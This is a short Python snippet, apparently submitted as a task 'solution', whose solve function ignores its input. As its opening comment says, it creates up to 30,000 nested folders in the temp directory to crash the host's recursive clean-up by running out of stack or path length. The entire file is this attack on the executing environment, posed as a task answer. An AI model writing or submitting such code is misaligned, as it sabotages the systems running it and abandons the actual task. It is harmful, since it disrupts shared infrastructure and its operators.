# folders nested tens of thousands deep: a recursive clean-up in the host runs out of stack or path length
import os, tempfile
def solve(n):
    os.chdir(tempfile.gettempdir())
    depth = 0
    try:
        for depth in range(30_000):
            os.mkdir("cohort-canary-d")
            os.chdir("cohort-canary-d")
    except OSError as error:
        print(depth, error)
    return depth
